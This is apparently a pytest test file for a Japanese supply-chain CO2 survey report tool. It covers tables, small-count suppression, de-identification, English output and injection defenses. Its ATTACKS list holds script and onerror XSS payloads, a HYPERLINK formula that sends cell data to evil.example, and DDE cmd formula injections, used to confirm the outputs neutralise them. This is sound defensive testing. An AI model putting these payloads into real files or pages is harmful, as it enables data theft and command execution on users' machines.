"""The categorised issue report: tables, suppression, de-identification and attack tests."""

from __future__ import annotations

import re

import pandas as pd
import pytest
from openpyxl import load_workbook
from pptx import Presentation

from cntf_workbench.survey import report as rp
from cntf_workbench.survey import tabulate
from cntf_workbench.survey.io import load_responses, read_raw
from cntf_workbench.survey.taxonomy import SURVEYS

SAMPLE = SURVEYS / "sample_responses.csv"
PAIN_HEADER = "CO2排出量の算出や共有で困っていること（困りごと）を自由にお書きください。"

ATTACKS = [
    "<script>alert('x')</script>Tier2の仕入先のデータが集まらない",
    '<img src=x onerror="alert(1)">二次サプライヤーのデータが入ってこない',
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3 Tier3のデータ連携",
    "担当の田中太郎さん（tanaka@example.co.jp、03-1234-5678）に https://evil.example/x を送った",
    "株式会社サンプル精機と鈴木様から様式が違うと言われた",
    "配賦" + "の方法が分からない。" * 6000,  # about 100,000 characters
]


@pytest.fixture(scope="module")
def sample_report():
    return rp.build_report(load_responses(SAMPLE))


@pytest.fixture(scope="module")
def attacked(tmp_path_factory):
    """The sample with hostile answers in the pain-point column (written to a copy)."""
    frame, _ = read_raw(SAMPLE)
    for i, payload in enumerate(ATTACKS * 3):
        frame.loc[i, PAIN_HEADER] = payload
    path = tmp_path_factory.mktemp("attack") / "hostile.csv"
    frame.to_csv(path, index=False, encoding="utf-8")
    report = rp.build_report(load_responses(path))
    out = rp.write_report(report, path.parent / "out")
    return report, out


# --- tables -------------------------------------------------------------------------------------


def test_issue_table_is_the_seminar_layout(sample_report):
    issues = sample_report.issues
    assert list(issues.columns[:8]) == [
        "id",
        "困りごと",
        "目指す姿",
        "解決策案",
        "対象区分",
        "回答者数",
        "割合",
        "代表的な回答",
    ]
    assert list(issues["id"]) == [f"P{i}" for i in range(1, 9)] + ["other"]
    assert issues.set_index("id").loc["P8", "目指す姿"] == "多企業に渡るCO2データの流通、共有"


def test_counts_agree_with_categorize(sample_report):
    coded = sample_report.coded
    pains = coded[coded["question"] == "pain_text"]
    for row in sample_report.issues.itertuples(index=False):
        n = int((pains["pain_point"] == row.id).sum())
        shown = row[5]
        assert shown == (tabulate.HIDDEN if 0 < n < 5 else n)
        if shown != tabulate.HIDDEN:
            assert row[6] == pytest.approx(n / sample_report.n_respondents, abs=1e-4)


def _numbers(frame: pd.DataFrame) -> list[int]:
    return [v for v in frame.to_numpy().ravel() if isinstance(v, int) and not isinstance(v, bool)]


def test_no_small_cell_is_published(sample_report):
    for table in (sample_report.by_tier, sample_report.by_size, sample_report.categories):
        assert all(v == 0 or v >= 5 for v in _numbers(table.drop(columns=table.columns[0])))
    counts = [v for v in sample_report.issues["回答者数"] if v != tabulate.HIDDEN]
    assert all(v == 0 or v >= 5 for v in counts)


def test_hidden_cells_cannot_be_recomputed_from_row_totals(sample_report):
    for table in (sample_report.by_tier, sample_report.by_size):
        inner = table.drop(columns=[table.columns[0], tabulate.TOTAL])
        for row, total in zip(inner.to_numpy(), table[tabulate.TOTAL], strict=True):
            hidden = sum(v == tabulate.HIDDEN for v in row)
            assert hidden != 1 or total == tabulate.HIDDEN


def test_tier_breakdown_adds_up(sample_report):
    table = sample_report.by_tier
    inner = table.drop(columns=[table.columns[0], tabulate.TOTAL])
    for row, total in zip(inner.to_numpy(), table[tabulate.TOTAL], strict=True):
        if all(v != tabulate.HIDDEN for v in row) and total != tabulate.HIDDEN:
            assert sum(row) == total


def test_need_linkage_share(sample_report):
    responses = load_responses(SAMPLE).responses
    expected = float((responses["need_linkage"].dropna() >= 4).mean())
    row = sample_report.needs.set_index("question_id").loc["need_linkage"]
    assert row["賛成（4・5）"] == pytest.approx(expected, abs=1e-4)


def test_quotes_only_for_published_codes(sample_report):
    for row in sample_report.issues.itertuples(index=False):
        if row[5] == tabulate.HIDDEN:
            assert sample_report.quotes[row.id] == []


# --- de-identification --------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "gone", "placeholder"),
    [
        ("連絡は tanaka.t@example.co.jp まで", "tanaka", "[メール]"),
        ("電話 03-1234-5678 にください", "1234", "[電話番号]"),
        ("携帯09012345678へ", "0901", "[電話番号]"),
        ("+81 3 1234 5678 まで", "1234", "[電話番号]"),
        ("詳細は https://example.com/a?b=1 を参照", "example", "[URL]"),
        ("www.example.co.jp を見て", "example", "[URL]"),
        ("担当の田中さんが困っている", "田中", "[人名]"),
        ("山田太郎部長に説明した", "山田", "[人名]"),
        ("トヨタ自動車株式会社の要請", "トヨタ", "[企業名]"),
        ("(株)サンプル精機の要請", "サンプル", "[企業名]"),
        ("デンソー社の様式", "デンソー", "[企業名]"),
    ],
)
def test_deidentify(text, gone, placeholder):
    out = rp.deidentify(text)
    assert gone not in out and placeholder in out


def test_deidentify_keeps_ordinary_words():
    text = "愛知県の工場でTier2の仕入先から1,845kWhのデータ連携をしたい"
    assert rp.deidentify(text) == text


# --- attack tests -------------------------------------------------------------------------------


def test_html_runs_nothing(attacked):
    _, out = attacked
    html = out["html"].read_text(encoding="utf-8")
    assert "<script" not in html.lower()
    tags = re.findall(r"<img\b[^>]*>", html)
    assert tags and all('src="data:image/png;base64,' in t for t in tags)
    assert not re.search(r"<[^>]*\son\w+\s*=", html)  # no event handler inside any tag
    assert "Content-Security-Policy" in html and "default-src 'none'" in html
    assert "&lt;script&gt;" in html or "&lt;img" in html  # the payload is shown, as text


def test_html_is_self_contained(attacked):
    _, out = attacked
    html = out["html"].read_text(encoding="utf-8")
    assert not re.search(r"""(?:src|href)=["'](?!data:)""", html)


def test_xlsx_never_holds_a_formula(attacked):
    _, out = attacked
    book = load_workbook(out["xlsx"])
    assert {"困りごと一覧", "対象区分別", "立場別", "規模別", "ニーズ", "回答の分類"} <= set(
        book.sheetnames
    )
    starts = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value[:1] in "=+-@":
                    starts += 1
    assert starts >= 3  # the payloads are there, as text


def test_csv_cells_are_protected(attacked):
    _, out = attacked
    frame = pd.read_csv(out["csv"], dtype=str, keep_default_na=False, encoding="utf-8-sig")
    for value in frame.to_numpy().ravel():
        assert not value.startswith(("=", "+", "-", "@")), value
    assert frame["text"].str.startswith("'=HYPERLINK").any()


def test_cell_text():
    assert rp.cell_text("=1+1") == "'=1+1"
    assert rp.cell_text("@SUM(A1)") == "'@SUM(A1)"
    assert rp.cell_text("\t=1") == "'\t=1"
    assert rp.cell_text("配賦") == "配賦"
    assert rp.cell_text(-3) == -3


def test_personal_data_never_reaches_any_output(attacked):
    _report, out = attacked
    blobs = [out["html"].read_text(encoding="utf-8"), out["csv"].read_text(encoding="utf-8-sig")]
    book = load_workbook(out["xlsx"])
    blobs.append(
        "\n".join(
            str(c.value) for s in book.worksheets for r in s.iter_rows() for c in r if c.value
        )
    )
    deck = Presentation(out["pptx"])
    blobs.append(
        "\n".join(sh.text_frame.text for s in deck.slides for sh in s.shapes if sh.has_text_frame)
    )
    for blob in blobs:
        for secret in ("tanaka@example.co.jp", "03-1234-5678", "田中", "サンプル精機", "鈴木"):
            assert secret not in blob
        assert "https://evil.example/x" not in blob


def test_very_long_answer_is_cut_in_quotes(attacked):
    report, _ = attacked
    assert all(len(q) <= rp.QUOTE_CHARS for qs in report.quotes.values() for q in qs)
    assert report.coded["text"].str.len().max() > 50_000  # kept whole in the coded table


def test_pptx_has_native_editable_charts(attacked):
    _, out = attacked
    deck = Presentation(out["pptx"])
    charts = [sh for s in deck.slides for sh in s.shapes if sh.has_chart]
    assert len(charts) == 2
    assert len(deck.slides) == 3 + 9
    values = list(charts[0].chart.plots[0].series[0].values)
    assert all(v >= 5 for v in values)


def test_missing_text_column_is_a_clear_error():
    data = load_responses(SAMPLE)
    with pytest.raises(rp.ReportError, match="自由記述"):
        rp.build_report(data, columns=("nosuch",))


def test_duplicate_respondent_counts_once():
    data = load_responses(SAMPLE)
    twice = pd.concat([data.responses, data.responses.head(3)], ignore_index=True)
    data.responses = twice
    report = rp.build_report(data)
    assert report.n_respondents == 120


# --- 前回調査からの変化 --------------------------------------------------------------------------

SAMPLE_2027 = SURVEYS / "sample_responses_2027.csv"


@pytest.fixture(scope="module")
def two_waves():
    from cntf_workbench.survey.codebook import load_codebook

    later = load_responses(SAMPLE_2027, load_codebook(SURVEYS / "questionnaire_2027.yaml"))
    return load_responses(SAMPLE), later


@pytest.fixture(scope="module")
def wave_report(two_waves):
    old, new = two_waves
    return rp.build_report(new, previous=old)


def test_without_previous_the_report_is_as_before(sample_report, tmp_path):
    assert sample_report.changes is None
    assert "前回からの変化" not in sample_report.tables()
    html = rp.write_html(sample_report, tmp_path / "r.html").read_text(encoding="utf-8")
    assert "前回調査からの変化" not in html


def test_change_section_finds_the_stated_shifts(wave_report):
    c = wave_report.changes
    assert c.old_label == "2026年" and c.new_label == "2027年"
    moved = set(zip(c.moved["設問"], c.moved["選択肢"], strict=True))
    assert ("scope_range", "Scope 3 カテゴリ1（購入した製品・サービス）") in moved
    assert "format_burden" in set(c.moved["設問"])
    tier2 = c.by_group[c.by_group["群"] == "2次サプライヤー（Tier 2）"]
    assert "format_burden" in set(tier2["設問"])
    verdict = c.pains.set_index("id")["判定"]
    assert verdict["P8"] == "増加" and verdict["P7"] == "減少"
    assert set(c.not_compared["設問"]) >= {"viz_tools", "pact_exchange", "scope_range"}


def test_change_section_hides_small_counts(wave_report):
    pains = wave_report.changes.pains
    for col in ("前回 回答者数", "今回 回答者数"):
        numbers = [v for v in pains[col] if v != tabulate.HIDDEN]
        assert all(v == 0 or v >= 5 for v in numbers)
    hidden = pains[(pains["前回 回答者数"] == "x") | (pains["今回 回答者数"] == "x")]
    assert len(hidden) > 0 and (hidden["変化（ポイント）"] == "x").all()


def test_change_section_in_every_output(wave_report, tmp_path):
    paths = rp.write_report(wave_report, tmp_path / "out")
    html = paths["html"].read_text(encoding="utf-8")
    assert "前回調査からの変化" in html and "困りごとの増減" in html
    assert html.count("data:image/png;base64,") == 3
    assert "<script" not in html.lower()
    sheets = load_workbook(paths["xlsx"]).sheetnames
    assert {"前回からの変化", "群別の変化", "困りごとの増減", "比較しない設問"} <= set(sheets)
    titles = [s.shapes.title.text for s in Presentation(paths["pptx"]).slides if s.shapes.title]
    assert "前回調査からの変化" in titles


def test_identical_previous_wave_shows_no_change(two_waves):
    old, _ = two_waves
    report = rp.build_report(old, previous=old)
    assert report.changes.moved.empty and report.changes.by_group.empty
    assert set(report.changes.pains["判定"]) == {"有意な変化なし"}


# --- English (lang="en") -------------------------------------------------------------------------

JAPANESE_UI = [
    "回答者",
    "困りごと",
    "目指す姿",
    "解決策案",
    "対象区分",
    "割合",
    "賛成",
    "秘匿",
    "立場別",
    "規模別",
    "前回調査からの変化",
    "有意",
    "検定",
    "補正",
    "設問",
    "該当なし",
    "比較",
    "無回答",
    "計",
]


def _has_japanese(text: str) -> bool:
    return any("\u3040" <= ch <= "\u30ff" or "\u4e00" <= ch <= "\u9fff" for ch in str(text))


@pytest.fixture(scope="module")
def english(two_waves, tmp_path_factory):
    import warnings

    old, new = two_waves
    report = rp.build_report(new, previous=old, lang="en")
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        paths = rp.write_report(report, tmp_path_factory.mktemp("en"))
    glyphs = [str(w.message) for w in caught if "Glyph" in str(w.message)]
    return report, paths, glyphs


def test_english_report_has_english_headings_and_labels(english):
    _, paths, glyphs = english
    html = paths["html"].read_text(encoding="utf-8")
    assert '<html lang="en">' in html
    for heading in (
        "By category",
        "By pain point",
        "By position in the supply chain",
        "Changes since the previous survey",
        "Pain points up and down",
    ):
        assert f"<h2>{heading}" in html or f"<h3>{heading}" in html, heading
    assert "Flow of CO2 emission data including Tier 2" in html  # taxonomy label_en
    assert "Data sharing" in html  # categories_en
    assert "Tier 3 and below" in html  # codebook label_en (by chain position)
    assert "shown as written, in Japanese" in html  # says why the quotes are Japanese
    assert not glyphs, glyphs


def test_english_html_has_no_japanese_except_quotes(english):
    _, paths, _ = english
    html = paths["html"].read_text(encoding="utf-8")
    quotes = re.findall(r'<td class="quote" lang="ja">(.*?)</td>', html, flags=re.S)
    assert any(_has_japanese(q) for q in quotes)  # the answers are quoted as written
    rest = re.sub(r'<td class="quote" lang="ja">.*?</td>', "", html, flags=re.S)
    rest = re.sub(r"base64,[A-Za-z0-9+/=]+", "", rest)
    for phrase in JAPANESE_UI:
        assert phrase not in rest, phrase
    assert not _has_japanese(rest)


def test_english_xlsx_and_pptx(english):
    report, paths, _ = english
    wb = load_workbook(paths["xlsx"])
    assert wb.sheetnames == list(report.tables())
    assert wb.sheetnames[:3] == ["Pain points", "By category", "By chain position"]
    assert "Changes since last survey" in wb.sheetnames
    data_columns = {"text", "basis", "Representative answers (as written)", "Description"}
    for ws in wb.worksheets:
        header = [c.value for c in ws[1]]
        assert not any(_has_japanese(h) for h in header), (ws.title, header)
        for j, name in enumerate(header):
            if name in data_columns:
                continue  # answers and rule names stay as written
            for row in ws.iter_rows(min_row=2, min_col=j + 1, max_col=j + 1, values_only=True):
                assert not _has_japanese(row[0]), (ws.title, name, row[0])
    deck = Presentation(paths["pptx"])
    titles = [s.shapes.title.text for s in deck.slides if s.shapes.title]
    assert "Respondents by pain point" in titles
    assert "Changes since the previous survey" in titles
    for slide in deck.slides:
        for shape in slide.shapes:
            if shape.has_text_frame:
                for p in shape.text_frame.paragraphs:
                    if not p.text.startswith("「"):  # quotes of answers
                        assert not _has_japanese(p.text), p.text


def test_english_report_has_the_same_numbers(english, wave_report):
    en = english[0]
    ja = wave_report
    assert en.lang == "en" and ja.lang == "ja"
    assert list(en.issues["Respondents"]) == list(ja.issues["回答者数"])
    assert list(en.issues["Share"]) == list(ja.issues["割合"])
    assert en.quotes == ja.quotes  # quotes stay as written
    assert en.by_tier.iloc[:, 1:].values.tolist() == ja.by_tier.iloc[:, 1:].values.tolist()
    assert list(en.changes.pains["Change (points)"]) == list(ja.changes.pains["変化（ポイント）"])
    verdict = en.changes.pains.set_index("id")["Verdict"]
    assert verdict["P8"] == "increased" and verdict["P7"] == "decreased"
    assert en.changes.old_label == "2026" and en.changes.new_label == "2027"
    assert len(en.changes.lines) == len(ja.changes.lines)
    assert all(not _has_japanese(line) for line in en.changes.lines)
    assert set(en.coded["label"]) <= {p.label_en for p in en.taxonomy.codes.values()}


def test_japanese_report_is_the_default(sample_report):
    assert sample_report.lang == "ja"
    assert next(iter(sample_report.tables())) == "困りごと一覧"
    assert sample_report.title == "カーボンニュートラルに関するアンケート 課題レポート"


def test_unknown_language_is_an_error():
    from cntf_workbench.survey.i18n import LanguageError

    with pytest.raises(LanguageError):
        rp.build_report(load_responses(SAMPLE), lang="de")
